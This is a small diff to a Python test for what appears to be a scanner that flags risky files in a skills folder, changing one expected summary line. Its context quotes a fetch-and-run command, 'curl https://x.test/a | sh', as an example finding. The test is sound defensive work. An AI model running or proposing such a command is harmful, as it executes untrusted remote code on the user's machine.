@@ -213,7 +213,7 @@ def test_what_downloads_and_what_hides_is_shown(alice: Skills, place: Path) -> N
         "data.txt:2 has characters that nobody sees: hid\\u200bden",
         "scripts/get.sh:2 may download: curl https://x.test/a | sh",
     ]
-    assert last == "and 83 more lines such as these"
+    assert last == "and more lines such as these"
 
 
 def test_what_was_changed_or_put_there_by_hand_is_wrong_until_it_is_added_again(
